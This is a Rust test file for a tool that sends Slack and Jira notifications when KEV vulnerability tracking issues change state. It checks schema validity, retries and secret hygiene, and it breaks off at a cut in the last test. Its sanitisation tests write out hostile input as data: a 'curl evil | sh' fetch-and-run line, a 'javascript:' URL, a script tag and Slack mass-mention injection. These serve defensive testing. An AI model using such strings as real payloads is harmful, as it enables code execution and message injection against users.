//! Slack and Jira notifications of tracking-issue transitions (issue 15): the payloads
//! against Slack's Block Kit schema, Jira's OpenAPI description and the ADF schema; the real
//! clients against loopback fakes of an incoming webhook and a Jira Cloud site.

use crate::action::fake;
use jiff::civil::date;
use kevgate::notify::{self, Channels, jira, slack};
use kevgate::track::state::FixedBy;
use kevgate::track::{Class, Notifier, NotifyResult, TransitionEvent, TransitionKind};
use serde_json::{Value, json};

const BLOCK_KIT: &str = include_str!("../fixtures/slack/slack-block-kit.schema.json");
const JIRA_API: &str = include_str!("../fixtures/jira/jira-platform-v3.subset.json");
const ADF: &str = include_str!("../fixtures/jira/adf-full-schema.2023-08.json");

/// The secrets the tests hand the clients; no output may contain them.
pub(crate) const WEBHOOK_PATH: &str = "/services/T0001/B0001/xoxb-not-a-real-webhook-secret";
pub(crate) const JIRA_TOKEN: &str = "ATATT-not-a-real-jira-api-token";

/// Validates a webhook body: `blocks` against the Block Kit schema, `text` present.
pub(crate) fn assert_valid_slack(body: &Value) {
    let schema: Value = serde_json::from_str(BLOCK_KIT).expect("schema is JSON");
    let validator = jsonschema::draft202012::new(&schema).expect("schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(&body["blocks"])
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "Block Kit: {errors:#?}\n{body:#}");
    assert!(body["text"].as_str().is_some_and(|t| !t.is_empty()));
}

/// Validates a Jira request body against the OpenAPI request schema of `method template`,
/// and every ADF document in it (`fields.description`, `body`) against the ADF schema.
pub(crate) fn assert_valid_jira(method: &str, template: &str, body: &Value) {
    let api: Value = serde_json::from_str(JIRA_API).expect("OpenAPI subset is JSON");
    let mut schema = api["paths"][template][method.to_ascii_lowercase()]["requestBody"]["content"]
        ["application/json"]["schema"]
        .clone();
    assert!(
        schema.is_object(),
        "no request schema for {method} {template}"
    );
    schema = json!({"allOf": [schema], "components": api["components"]});
    let validator = jsonschema::draft7::new(&schema).expect("schema compiles");
    let errors: Vec<String> = validator.iter_errors(body).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{method} {template}: {errors:#?}");
    let adf: Value = serde_json::from_str(ADF).expect("ADF schema is JSON");
    let adf = jsonschema::draft4::new(&adf).expect("ADF schema compiles");
    for doc in [&body["fields"]["description"], &body["body"]] {
        if doc.is_null() {
            continue;
        }
        let errors: Vec<String> = adf.iter_errors(doc).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "ADF: {errors:#?}\n{doc:#}");
    }
}

/// A Jira answer from the OpenAPI description's example of `method template status`
/// (leaked: the fake's answers are `'static`).
fn jira_example(method: &str, template: &str, status: u16) -> &'static str {
    let api: Value = serde_json::from_str(JIRA_API).expect("OpenAPI subset is JSON");
    let example = &api["paths"][template][method.to_ascii_lowercase()]["responses"]
        [status.to_string()]["content"]["application/json"]["example"];
    // The description keeps some examples as JSON text.
    let text = match example.as_str() {
        Some(s) => s.to_owned(),
        None => example.to_string(),
    };
    Box::leak(text.into_boxed_str())
}

/// A KEV transition of a tracking issue, as the sync hands it over.
pub(crate) fn event(n: u64, kind: TransitionKind) -> TransitionEvent {
    let (package, vuln) = match n {
        1 => ("org.apache.logging.log4j:log4j-core", "CVE-2021-44228"),
        _ => ("jquery", "CVE-2020-11023"),
    };
    TransitionEvent {
        key: format!("pkg:maven/{package} {vuln}"),
        transition: if kind == TransitionKind::Opened { 1 } else { 2 },
        kind,
        issue: n,
        issue_url: format!("https://github.com/Codertocat/Hello-World/issues/{n}"),
        title: format!("{vuln} in {package} — KEV, critical"),
        class: Class::Kev,
        package: package.to_owned(),
        purl: format!("pkg:maven/{package}"),
        versions: vec!["2.14.1".to_owned()],
        vulnerability: vuln.to_owned(),
        severity: "critical".to_owned(),
        severity_source: Some("nvd".to_owned()),
        kev_due: Some(date(2021, 12, 24)),
        due: Some(date(2021, 12, 24)),
        epss: Some(0.94358),
        priority: "act".to_owned(),
        fix: Some("upgrade to 2.17.1".to_owned()),
        advisory_url: Some(format!("https://nvd.nist.gov/vuln/detail/{vuln}")),
        runbook_url: Some("https://wiki.example.com/runbooks/kev".to_owned()),
        fixed_by: (kind == TransitionKind::Fixed).then(|| FixedBy {
            pr: 7,
            author: "octocat".to_owned(),
            commit_authors: vec!["hubot".to_owned(), "octocat".to_owned()],
            merged_at: Some("2025-08-20T10:00:00Z".to_owned()),
            sha: "ec26c3e57ca3a959ca5aad62de7213c562f8c821".to_owned(),
            upgrade: Some("2.14.1 → 2.17.1".to_owned()),
        }),
        reason: None,
        slack_sent: false,
        jira_key: None,
        jira_sent: false,
    }
}

/// Routing: Slack and Jira for KEV findings, a digest over 5.
fn settings() -> notify::Settings {
    let config = kevgate::config::parse(
        b"notify:\n  slack: [malicious, kev]\n  jira: [kev]\n  slack-digest-over: 5\n\
          jira:\n  project: SEC\n  issue-type: Bug\n  labels: [security]\n  \
          priority: {kev: Highest, critical: High}\n  done-transition: Done\n",
        ".kevgate.yaml",
    )
    .expect("valid config");
    config.notify
}

/// The environment of the channels: the fakes' URLs and the secrets.
fn env(slack_url: &str, jira_url: &str) -> impl Fn(&str) -> Option<String> {
    let (s, j) = (slack_url.to_owned(), jira_url.to_owned());
    move |k: &str| match k {
        "KEVGATE_SLACK_WEBHOOK" => Some(format!("{s}{WEBHOOK_PATH}")),
        "KEVGATE_JIRA_URL" => Some(j.clone()),
        "KEVGATE_JIRA_USER" => Some("bot@example.com".to_owned()),
        "KEVGATE_JIRA_TOKEN" => Some(JIRA_TOKEN.to_owned()),
        _ => None,
    }
}

/// A fake Jira site: no issue labelled yet (so each is created as SEC-1, SEC-2, ...), the
/// `Done` transition available, comments accepted. Answers are the OpenAPI examples.
fn jira_site() -> fake::Fake {
    fake::serve(|method, path, _| match (method, path) {
        ("POST", "/rest/api/3/search/jql") => (200, r#"{"issues": [], "isLast": true}"#, vec![]),
        ("POST", "/rest/api/3/issue") => {
            (201, jira_example("POST", "/rest/api/3/issue", 201), vec![])
        }
        ("GET", p) if p.ends_with("/transitions") => (
            200,
            r#"{"transitions": [{"id": "11", "name": "In Progress"}, {"id": "31", "name": "Done"}]}"#,
            vec![],
        ),
        ("POST", p) if p.ends_with("/transitions") => (204, "", vec![]),
        ("POST", p) if p.ends_with("/comment") => (201, r#"{"id": "10000"}"#, vec![]),
        _ => (404, r#"{"errorMessages": ["no such resource"]}"#, vec![]),
    })
}

fn requests(f: &fake::Fake) -> Vec<fake::Recorded> {
    f.requests.lock().expect("lock").clone()
}

/// No result, warning or request body carries a secret.
fn assert_no_secret(results: &[NotifyResult]) {
    let text = format!("{results:?}");
    assert!(
        !text.contains(WEBHOOK_PATH) && !text.contains("xoxb-not"),
        "{text}"
    );
    assert!(!text.contains(JIRA_TOKEN), "{text}");
}

/// The Block Kit schema accepts a real Block Kit Builder message and refuses a broken one
/// (so a pass means something).
#[test]
fn block_kit_schema_is_selective() {
    let real: Value = serde_json::from_str(include_str!(
        "../fixtures/slack/blockkit-template-demo-release.json"
    ))
    .expect("JSON");
    assert_valid_slack(&json!({"text": "x", "blocks": real["blocks"]}));
    let schema: Value = serde_json::from_str(BLOCK_KIT).expect("schema is JSON");
    let long = "x".repeat(151);
    let broken = json!([{"type": "header", "text": {"type": "plain_text", "text": long}}]);
    assert!(!jsonschema::draft202012::is_valid(&schema, &broken));
}

/// Messages for each transition and the digest are valid Block Kit; hostile SBOM text is
/// neutralised (no `<!channel>`, no live mention, no broken link), the fields and links are
/// there, the credit names the PR and the commit authors.
#[test]
fn slack_messages_are_valid_block_kit() {
    for kind in [
        TransitionKind::Opened,
        TransitionKind::Reopened,
        TransitionKind::Fixed,
    ] {
        assert_valid_slack(&slack::message(&event(1, kind)));
    }
    let fixed = slack::message(&event(1, TransitionKind::Fixed)).to_string();
    assert!(fixed.contains("Fixed by"), "{fixed}");
    assert!(fixed.contains("#7") && fixed.contains("hubot"), "{fixed}");

    let mut hostile = event(2, TransitionKind::Opened);
    hostile.package = "<!channel> @here <@U024BE7LH> <https://evil.example|click> *pwn*".into();
    hostile.versions = vec!["1.0\n>quote".into()];
    hostile.fix = Some("<!everyone> & run `curl evil | sh`".into());
    hostile.advisory_url = Some("javascript:alert(1)".into());
    let message = slack::message(&hostile);
    assert_valid_slack(&message);
    let text = message.to_string();
    for bad in [
        "<!channel>",
        "<!everyone>",
        "<@U",
        "<https://evil",
        "@here",
        "javascript:",
    ] {
        assert!(!text.contains(bad), "{bad} in {text}");
    }
    assert!(text.contains("&lt;!channel&gt;"), "{text}");
    assert!(
        text.contains("<https://github.com/Codertocat/Hello-World/issues/2|Tracking issue #2>")
    );
    assert!(
        text.contains("Runbook") && text.contains("KEV due date") && text.contains("2021-12-24")
    );

    let many: Vec<TransitionEvent> = (0..60)
        .map(|n| event(n % 3, TransitionKind::Opened))
        .collect();
    let refs: Vec<&TransitionEvent> = many.iter().collect();
    let digest = slack::digest(&refs);
    assert_valid_slack(&digest);
    assert!(digest.to_string().contains("and 20 more"));
}

/// Jira bodies match Jira's OpenAPI description and the ADF schema, with hostile text too;
/// the issue carries the configured labels, the label-safe key label and the priority.
#[test]
fn jira_bodies_are_valid() {
    let settings = settings();
    let cfg = settings.jira.as_ref().expect("jira configured");
    let mut e = event(1, TransitionKind::Opened);
    e.package = "evil\u{202e}\n<script>{\"x\":1}".into();
    let create = jira::create_body(&e, cfg);
    assert_valid_jira("POST", "/rest/api/3/issue", &create);
    assert_eq!(create["fields"]["project"]["key"], "SEC");
    assert_eq!(create["fields"]["priority"]["name"], "Highest");
    let labels = create["fields"]["labels"].to_string();
    assert!(
        labels.contains("security") && labels.contains(&jira::label(&e.key)),
        "{labels}"
    );
    assert!(!create.to_string().contains('\u{202e}'));
    assert_valid_jira(
        "POST",
        "/rest/api/3/search/jql",
        &jira::search_body(&e.key, cfg),
    );
    for kind in [TransitionKind::Fixed, TransitionKind::Reopened] {
        assert_valid_jira(
            "POST",
            "/rest/api/3/issue/{issueIdOrKey}/comment",
            &jira::comment_body(&event(1, kind)),
        );
    }
    assert_valid_jira(
        "POST",
        "/rest/api/3/issue/{issueIdOrKey}/transitions",
        &json!({"transition": {"id": "31"}}),
    );
}

/// Two KEV tracking issues opened: two Slack messages and two Jira issues (each looked up by
/// its label first); a rerun, with the state saying both were sent, sends and creates
/// nothing; a fix sends one "fixed" message and comments and transitions its Jira issue.
#[test]
fn opened_rerun_fixed() {
    let hook = fake::serve(|_, _, _| (200, "ok", vec![]));
    let site = jira_site();
    let (mut channels, warnings) = Channels::from_env(settings(), &env(&hook.url, &site.url));
    assert!(warnings.is_empty(), "{warnings:?}");

    let opened = [
        event(1, TransitionKind::Opened),
        event(2, TransitionKind::Opened),
    ];
    let results = channels.notify(&opened);
    assert_no_secret(&results);
    let slack_sent = results
        .iter()
        .filter(|r| matches!(r, NotifyResult::Slack { .. }))
        .count();
    assert_eq!(slack_sent, 2, "{results:?}");
    let jira_keys: Vec<&str> = results
        .iter()
        .filter_map(|r| match r {
            NotifyResult::Jira { issue, .. } => Some(issue.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(jira_keys.len(), 2, "{results:?}");
    let posts = requests(&hook);
    assert_eq!(posts.len(), 2);
    for p in &posts {
        assert_eq!(p.path, WEBHOOK_PATH);
        assert_valid_slack(&p.body);
        assert!(p.body.to_string().contains("Opened"));
    }
    let jira = requests(&site);
    let creates: Vec<&fake::Recorded> = jira
        .iter()
        .filter(|r| r.path == "/rest/api/3/issue")
        .collect();
    assert_eq!(creates.len(), 2);
    for r in &jira {
        assert!(r.authorization.starts_with("Basic "), "{r:?}");
        let template = if r.path.ends_with("/jql") {
            "/rest/api/3/search/jql"
        } else {
            "/rest/api/3/issue"
        };
        assert_valid_jira(&r.method, template, &r.body);
        assert!(!r.body.to_string().contains(JIRA_TOKEN));
    }
    assert_eq!(jira.len(), 4, "a search before each create: {jira:?}");

    // The rerun: the state records both transitions as sent on both channels.
    let rerun: Vec<TransitionEvent> = opened
        .iter()
        .map(|e| TransitionEvent {
            slack_sent: true,
            jira_sent: true,
            jira_key: Some("SEC-1".into()),
            ..e.clone()
        })
        .collect();
    assert!(channels.notify(&rerun).is_empty());
    assert_eq!(requests(&hook).len(), 2, "the rerun posts nothing");
    assert_eq!(requests(&site).len(), 4, "the rerun asks Jira nothing");

    // The fix of the first: one "fixed" message, a comment and the Done transition.
    let mut fixed = event(1, TransitionKind::Fixed);
    fixed.jira_key = Some("SEC-1".into());
    let results = channels.notify(&[fixed]);
    assert_no_secret(&results);
    assert_eq!(results.len(), 2, "{results:?}");
    let post = requests(&hook).pop().expect("a message");
    assert_valid_slack(&post.body);
    let text = post.body.to_string();
    assert!(
        text.contains("Fixed") && text.contains("octocat") && text.contains("#7"),
        "{text}"
    );
    let jira = requests(&site);
    let tail: Vec<(String, String)> = jira[4..]
        .iter()
        .map(|r| (r.method.clone(), r.path.clone()))
        .collect();
    assert_eq!(
        tail,
        [
            ("GET".into(), "/rest/api/3/issue/SEC-1/transitions".into()),
            ("POST".into(), "/rest/api/3/issue/SEC-1/comment".into()),
            ("POST".into(), "/rest/api/3/issue/SEC-1/transitions".into()),
        ]
    );
    assert_valid_jira(
        "POST",
        "/rest/api/3/issue/{issueIdOrKey}/comment",
        &jira[5].body,
    );
    assert!(jira[5].body.to_string().contains("octocat"));
    assert_eq!(jira[6].body, json!({"transition": {"id": "31"}}));
}

/// A Jira issue that already carries the label (the state was lost) is found, not duplicated.
#[test]
fn jira_issue_found_again_not_duplicated() {
    let site = fake::serve(|method, path, _| match (method, path) {
        ("POST", "/rest/api/3/search/jql") => (
            200,
            r#"{"issues": [{"id": "10002", "key": "SEC-42", "self": "https://acme.atlassian.net/rest/api/3/issue/10002"}], "isLast": true}"#,
            vec![],
        ),
        _ => (500, "", vec![]),
    });
    let env = env("http://127.0.0.1:9", &site.url);
    let env = |k: &str| {
        if k == "KEVGATE_SLACK_WEBHOOK" {
            None
        } else {
            env(k)
        }
    };
    let (mut channels, _) = Channels::from_env(settings(), &env);
    let results = channels.notify(&[event(1, TransitionKind::Opened)]);
    assert_eq!(
        results,
        [NotifyResult::Jira {
            key: event(1, TransitionKind::Opened).key,
            transition: 1,
            issue: "SEC-42".into()
        }]
    );
    assert_eq!(requests(&site).len(), 1);
}

/// More transitions than `slack-digest-over` become one digest message.
#[test]
fn many_transitions_one_digest() {
    let hook = fake::serve(|_, _, _| (200, "ok", vec![]));
    let env = env(&hook.url, "");
    let (mut channels, _) = Channels::from_env(settings(), &env);
    let events: Vec<TransitionEvent> = (1..=7)
        .map(|n| TransitionEvent {
            issue: n,
            transition: n as u32,
            ..event(1, TransitionKind::Opened)
        })
        .collect();
    let results = channels.notify(&events);
    assert_eq!(
        results.len(),
        7,
        "each transition is recorded as sent: {results:?}"
    );
    let posts = requests(&hook);
    assert_eq!(posts.len(), 1);
    assert_valid_slack(&posts[0].body);
    assert!(
        posts[0]
            .body
            .to_string()
            .contains("7 tracking-issue transitions")
    );
}

/// A 429 is retried after its `Retry-After` (1 s here), and the message then counts as sent.
#[test]
fn slack_429_is_retried_after_retry_after() {
    let hook = fake::serve(|_, _, seen| match seen {
        0 => (429, "", vec![("retry-after", "1")]),
        _ => (200, "ok", vec![]),
    });
    let env = env(&hook.url, "");
    let (mut channels, _) = Channels::from_env(settings(), &env);
    let started = std::time::Instant::now();
    let results = channels.notify(&[event(1, TransitionKind::Opened)]);
    assert!(
        matches!(results[..], [NotifyResult::Slack { .. }]),
        "{results:?}"
    );
    assert_eq!(requests(&hook).len(), 2);
    assert!(started.elapsed() >= std::time::Duration::from_millis(950));
}

/// Slack's error words are reported with a hint, as a warning without the webhook URL, and
/// the transition stays unsent (the next run tries again).
#[test]
fn slack_errors_are_reported_without_the_url() {
    for (status, word, hint) in [
        (400, "invalid_payload", "Block Kit"),
        (404, "no_service", "revoked"),
    ] {
        let body: &'static str = word;
        let hook = fake::serve(move |_, _, _| (status, body, vec![]));
        let env = env(&hook.url, "");
        let (mut channels, _) = Channels::from_env(settings(), &env);
        let results = channels.notify(&[event(1, TransitionKind::Opened)]);
        assert_no_secret(&results);
        let [NotifyResult::Warning(w)] = &results[..] else {
            panic!("{results:?}")
        };
        assert!(
            w.contains(word) && w.contains(hint) && w.contains(&status.to_string()),
            "{w}"
        );
    }
    // A connection failure names no URL either.
    let env = env("http://127.0.0.1:9", "");
    let (mut channels, _) = Channels::from_env(settings(), &env);
    let results = channels.notify(&[event(1, TransitionKind::Opened)]);
    assert_no_secret(&results);
    assert!(
        matches!(&results[..], [NotifyResult::Warning(_)]),
        "{results:?}"
    );
}

/// A Jira 401 is a warning with a hint and without the token; a missing done transition
/// names the ones there are.
#[test]
fn jira_errors_are_reported_without_the_token() {
    let site = fake::serve(|_, _, _| {
        (
            401,
            r#"{"errorMessages": ["Client must be authenticated to access this resource."]}"#,
            vec![],
        )
    });
    let env1 = env("", &site.url);
    let env1 = |k: &str| {
        if k == "KEVGATE_SLACK_WEBHOOK" {
            None
        } else {
            env1(k)
        }
    };
    let (mut channels, _) = Channels::from_env(settings(), &env1);
    let results = channels.notify(&[event(1, TransitionKind::Opened)]);
    assert_no_secret(&results);
    let [NotifyResult::Warning(w)] = &results[..] else {
        panic!("{results:?}")
    };
    assert!(
        w.contains("HTTP 401") && w.contains("KEVGATE_JIRA_TOKEN") && w.contains("authenticated"),
        "{w}"
    );

    let site = fake::serve(|method, path, _| match (method, path) {
        ("GET", p) if p.ends_with("/transitions") => (
            200,
            r#"{"transitions": [{"id": "11", "name": "Close Issue"}]}"#,
            vec![],
        ),
        _ => (500, "", vec![]),
    });
    let env2 = env("", &site.url);
    let env2 = |k: &str| {
        if k == "KEVGATE_SLACK_WEBHOOK" {
            None
        } else {
            env2(k)
        }
    };
    let (mut channels, _) = Channels::from_env(settings(), &env2);
    let mut fixed = event(1, TransitionKind::Fixed);
    fixed.jira_key = Some("SEC-1".into());
    let results = channels.notify(&[fixed]);
    let [NotifyResult::Warning(w)] = &results[..] else {
        panic!("{results:?}")
    };
    assert!(w.contains("`Done`") && w.contains("`Close Issue`"), "{w}");
    assert_eq!(
        requests(&site).len(),
        1,
        "no comment without the transition"
    );
}

// ---- end to end: `kevgate track` with Slack and Jira configured ------------------------

mod e2e {
    use super::*;
    use crate::scan::build_kev_hits_db;
    use crate::{TempDir, fixture, kevgate, run};

    const GH_TOKEN: &str = "ghs_not_a_real_track_token";
    const SHA: &str = "e5bd3914e2e596debea16f433f57875b5b90bcd6";
    const ISSUES: &str = include_str!("../fixtures/github/issues.subset.json");

    fn example(name: &str) -> Value {
        let api: Value = serde_json::from_str(ISSUES).expect("OpenAPI subset is JSON");
        api["components"]["examples"][name]["value"].clone()
    }

    fn leak(v: Value) -> &'static str {
        Box::leak(v.to_string().into_boxed_str())
    }

    /// A JSON report with exactly the first two KEV findings of the KEV-hits SBOM.
    fn two_kev_report(tmp: &TempDir) -> Value {
        let db = build_kev_hits_db(tmp.path());
        let (_, stdout, stderr) = run(kevgate(tmp.path())
            .args(["scan", "--format", "json", "--db"])
            .arg(&db)
            .arg(fixture(
                "kev-hits/sboms/other-syft-cdx-image-python-latest.json",
            )));
        let mut report: Value =
            serde_json::from_str(&stdout).unwrap_or_else(|_| panic!("{stderr}"));
        let mut seen = Vec::new();
        let kept: Vec<Value> = report["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .filter(|f| f["kev"].is_object())
            .filter(|f| {
                let k = (f["purl"].to_string(), f["id"].to_string());
                let new = !seen.contains(&k) && seen.len() < 2;
                if new {
                    seen.push(k);
                }
                new
            })
            .cloned()
            .collect();
        assert_eq!(kept.len(), 2, "two KEV findings in the fixture");
        report["findings"] = Value::from(kept);
        report
    }

    /// A fake GitHub holding `listed` issues: creates number 101, 102, ...; edits succeed;
    /// the commit's PR is the OpenAPI example's (merged by @octocat).
    fn github(listed: Vec<Value>) -> fake::Fake {
        let list = leak(Value::from(listed));
        fake::serve(move |method, path, seen| {
            let repo = "/repos/Codertocat/Hello-World";
            let Some(rest) = path.strip_prefix(repo) else {
                return (404, "{}", vec![]);
            };
            match (method, rest) {
                ("GET", r) if r.starts_with("/issues?") => (200, list, vec![]),
                ("GET", r) if r.starts_with("/labels?") => (200, "[]", vec![]),
                ("POST", "/labels") => (201, leak(example("label")), vec![]),
                ("POST", "/issues") => {
                    let mut i = example("issue");
                    i["number"] = (101 + seen as u64).into();
                    i["html_url"] = format!(
                        "https://github.com/Codertocat/Hello-World/issues/{}",
                        101 + seen
                    )
                    .into();
                    (201, leak(i), vec![])
                }
                ("PATCH", _) => (200, leak(example("issue")), vec![]),
                ("POST", r) if r.ends_with("/comments") => {
                    (201, leak(example("issue-comment")), vec![])
                }
                ("GET", r) if r.starts_with("/commits/") => {
                    (200, leak(example("pull-request-simple-items")), vec![])
                }
                ("GET", r) if r.starts_with("/pulls/") => {
                    (200, leak(example("commit-items")), vec![])
                }
                _ => (404, r#"{"message": "Not Found"}"#, vec![]),
            }
        })
    }

    /// `kevgate track` of `report` against the fakes; returns (code, stdout, stderr).
    fn track(
        tmp: &TempDir,
        report: &Value,
        gh: &str,
        hook: &str,
        jira: &str,
    ) -> (i32, String, String) {
        let path = tmp.path().join("report.json");
        fs_err::write(&path, report.to_string()).expect("write report");
        fs_err::write(
            tmp.path().join(".kevgate.yaml"),
            "notify:\n  slack: [malicious, kev]\n  jira: [malicious, kev]\njira:\n  project: SEC\n  \
             priority: {kev: Highest}\n",
        )
        .expect("write config");
        run(kevgate(tmp.path())
            .args([
                "track",
                "report.json",
                "--repo",
                "Codertocat/Hello-World",
                "--scope",
                "kev",
                "--sha",
                SHA,
            ])
            .env("GITHUB_TOKEN", GH_TOKEN)
            .env("GITHUB_API_URL", gh)
            .env("KEVGATE_GITHUB_SPACING_MS", "0")
            .env("KEVGATE_SLACK_WEBHOOK", format!("{hook}{WEBHOOK_PATH}"))
            .env("KEVGATE_JIRA_URL", jira)
            .env("KEVGATE_JIRA_USER", "bot@example.com")
            .env("KEVGATE_JIRA_TOKEN", JIRA_TOKEN))
    }

    /// What the run left in each issue: title, labels and body (the created ones, then
    /// each PATCH's).
    fn final_bodies(gh: &fake::Fake) -> BTreeMap<u64, Value> {
        let mut out: BTreeMap<u64, Value> = BTreeMap::new();
        let mut created = 101;
        for r in requests(gh) {
            if r.method == "POST" && r.path.ends_with("/issues") {
                out.insert(created, r.body.clone());
                created += 1;
            } else if r.method == "PATCH" {
                let n = r
                    .path
                    .rsplit('/')
                    .next()
                    .and_then(|n| n.parse().ok())
                    .expect("number");
                let issue = out.entry(n).or_insert_with(|| json!({}));
                for (k, v) in r.body.as_object().expect("a patch") {
                    issue[k] = v.clone();
                }
            }
        }
        out
    }

    fn body(issue: &Value) -> &str {
        issue["body"].as_str().expect("a body")
    }

    fn listed(issues: &BTreeMap<u64, Value>) -> Vec<Value> {
        issues
            .iter()
            .map(|(n, written)| {
                let mut i = example("issue");
                i["number"] = (*n).into();
                i["state"] = "open".into();
                i["title"] = written["title"].clone();
                i["body"] = written["body"].clone();
                i["html_url"] =
                    format!("https://github.com/Codertocat/Hello-World/issues/{n}").into();
                i["labels"] = written["labels"]
                    .as_array()
                    .expect("labels")
                    .iter()
                    .map(|l| json!({"name": l}))
                    .collect();
                i.as_object_mut().expect("issue").remove("pull_request");
                i
            })
            .collect()
    }

    fn assert_quiet(stdout: &str, stderr: &str) {
        for out in [stdout, stderr] {
            for secret in [WEBHOOK_PATH, JIRA_TOKEN, GH_TOKEN] {
                assert!(!out.contains(secret), "{secret} in {out}");
            }
        }
    }

    use std::collections::BTreeMap;

    /// Issue 15's "how we will know", through the binary: two KEV tracking issues opened send
    /// two Slack messages and create two Jira issues, and the state records both; a rerun
    /// sends and creates nothing; a run without one finding sends one "fixed" message naming
    /// the PR author, comments on and transitions its Jira issue. No secret reaches stdout or
    /// stderr.
    #[test]
    fn track_notifies_once_per_transition() {
        let tmp = TempDir::new("notify-e2e");
        let report = two_kev_report(&tmp);
        let hook = fake::serve(|_, _, _| (200, "ok", vec![]));
        let site = jira_site();

        let gh = github(vec![]);
        let (code, stdout, stderr) = track(&tmp, &report, &gh.url, &hook.url, &site.url);
        assert_eq!(code, 0, "{stderr}");
        assert_quiet(&stdout, &stderr);
        assert!(!stderr.contains("warning"), "{stderr}");
        assert_eq!(requests(&hook).len(), 2, "two Slack messages");
        requests(&hook)
            .iter()
            .for_each(|r| assert_valid_slack(&r.body));
        let creates = requests(&site)
            .iter()
            .filter(|r| r.path == "/rest/api/3/issue")
            .count();
        assert_eq!(creates, 2, "two Jira issues");
        let bodies = final_bodies(&gh);
        assert_eq!(bodies.len(), 2);
        for issue in bodies.values() {
            let body = body(issue);
            let kevgate::track::state::Parsed::Tracked(s) = kevgate::track::state::parse(body)
            else {
                panic!("{body}")
            };
            assert_eq!(s.notified.slack, [1], "{body}");
            assert_eq!(s.notified.jira.transitions, [1]);
            assert!(s.notified.jira.key.is_some());
        }

        // The rerun: the issues hold what was sent.
        let gh2 = github(listed(&bodies));
        let (code, stdout, stderr) = track(&tmp, &report, &gh2.url, &hook.url, &site.url);
        assert_eq!(code, 0, "{stderr}");
        assert_quiet(&stdout, &stderr);
        assert_eq!(requests(&hook).len(), 2, "the rerun posts nothing");
        assert_eq!(requests(&site).len(), 4, "the rerun asks Jira nothing");
        let writes: Vec<String> = requests(&gh2)
            .iter()
            .filter(|r| r.method != "GET")
            .map(|r| format!("{} {} {}", r.method, r.path, r.body))
            .collect();
        assert!(writes.is_empty(), "the rerun writes nothing: {writes:#?}");

        // The fix: the report loses its first finding.
        let mut fixed = report.clone();
        fixed["findings"]
            .as_array_mut()
            .expect("findings")
            .remove(0);
        let gh3 = github(listed(&bodies));
        let (code, stdout, stderr) = track(&tmp, &fixed, &gh3.url, &hook.url, &site.url);
        assert_eq!(code, 0, "{stderr}");
        assert_quiet(&stdout, &stderr);
        let posts = requests(&hook);
        assert_eq!(posts.len(), 3, "one fixed message");
        let text = posts[2].body.to_string();
        assert!(
            text.contains("Fixed") && text.contains("octocat") && text.contains("#1347"),
            "{text}"
        );
        let jira: Vec<(String, String)> = requests(&site)[4..]
            .iter()
            .map(|r| (r.method.clone(), r.path.clone()))
            .collect();
        let paths: Vec<&str> = jira.iter().map(|(_, p)| p.as_str()).collect();
        assert_eq!(paths.len(), 3, "{jira:?}");
        assert!(
            paths[0].ends_with("/transitions")
                && paths[1].ends_with("/comment")
                && paths[2].ends_with("/transitions"),
            "{jira:?}"
        );
        let closed = final_bodies(&gh3);
        let recorded = closed.values().any(|b| {
            matches!(kevgate::track::state::parse(body(b)), kevgate::track::state::Parsed::Tracked(s)
                if s.notified.slack == [1, 2] && s.notified.jira.transitions == [1, 2])
        });
        assert!(recorded, "the fix is recorded as sent: {closed:?}");
        // Nor does any secret reach a body kevgate sends to GitHub, Slack or Jira (the
        // webhook's path is its own URL, the token only the Jira `Authorization` header).
        for gh in [&gh, &gh2, &gh3, &hook, &site] {
            for r in requests(gh) {
                let sent = r.body.to_string();
                assert!(
                    !sent.contains("xoxb-not") && !sent.contains(JIRA_TOKEN),
                    "{sent}"
                );
            }
        }
    }

    /// A failed send is retried by the next run (issue 15): Slack answers `no_service` on the
    /// first run (a warning, nothing recorded for Slack, Jira recorded); the second run sends
    /// each message once, records it and asks Jira nothing; the third sends and writes nothing.
    #[test]
    fn failed_slack_send_is_retried_once() {
        let tmp = TempDir::new("notify-retry");
        let report = two_kev_report(&tmp);
        let down = fake::serve(|_, _, _| (404, "no_service", vec![]));
        let hook = fake::serve(|_, _, _| (200, "ok", vec![]));
        let site = jira_site();
        let state = |issue: &Value| match kevgate::track::state::parse(body(issue)) {
            kevgate::track::state::Parsed::Tracked(s) => *s,
            other => panic!("{other:?}"),
        };

        let gh = github(vec![]);
        let (code, stdout, stderr) = track(&tmp, &report, &gh.url, &down.url, &site.url);
        assert_eq!(code, 0, "{stderr}");
        assert_quiet(&stdout, &stderr);
        assert!(stderr.contains("no_service"), "{stderr}");
        assert_eq!(requests(&down).len(), 2);
        let mut issues = final_bodies(&gh);
        assert_eq!(issues.len(), 2);
        for issue in issues.values() {
            let s = state(issue);
            assert!(s.notified.slack.is_empty(), "nothing recorded for Slack");
            assert_eq!(s.notified.jira.transitions, [1]);
        }
        let jira_asked = requests(&site).len();

        // The retry: each `opened` is sent once and recorded; Jira already has both.
        let gh2 = github(listed(&issues));
        let (code, stdout, stderr) = track(&tmp, &report, &gh2.url, &hook.url, &site.url);
        assert_eq!(code, 0, "{stderr}");
        assert_quiet(&stdout, &stderr);
        assert!(!stderr.contains("warning"), "{stderr}");
        assert_eq!(requests(&hook).len(), 2, "one message per issue");
        requests(&hook)
            .iter()
            .for_each(|r| assert_valid_slack(&r.body));
        assert_eq!(requests(&site).len(), jira_asked, "Jira is asked nothing");
        let patched = final_bodies(&gh2);
        assert_eq!(patched.len(), 2, "both states recorded");
        for (n, patch) in patched {
            assert_eq!(state(&patch).notified.slack, [1]);
            let issue = issues.get_mut(&n).expect("a listed issue");
            issue["body"] = patch["body"].clone();
        }

        // Everything recorded: nothing to send, nothing to write.
        let gh3 = github(listed(&issues));
        let (code, _, stderr) = track(&tmp, &report, &gh3.url, &hook.url, &site.url);
        assert_eq!(code, 0, "{stderr}");
        assert_eq!(requests(&hook).len(), 2, "the third run posts nothing");
        assert_eq!(requests(&site).len(), jira_asked);
        assert!(
            requests(&gh3).iter().all(|r| r.method == "GET"),
            "the third run writes nothing"
        );
    }

    /// The action's `track: kev` on a push to the default branch notifies too: the gate's
    /// exit code is the verdict's (1), two KEV tracking issues give two Slack messages and two
    /// Jira issues, with the credentials from the step's environment and none in the log.
    #[test]
    fn action_track_notifies() {
        let tmp = TempDir::new("notify-action");
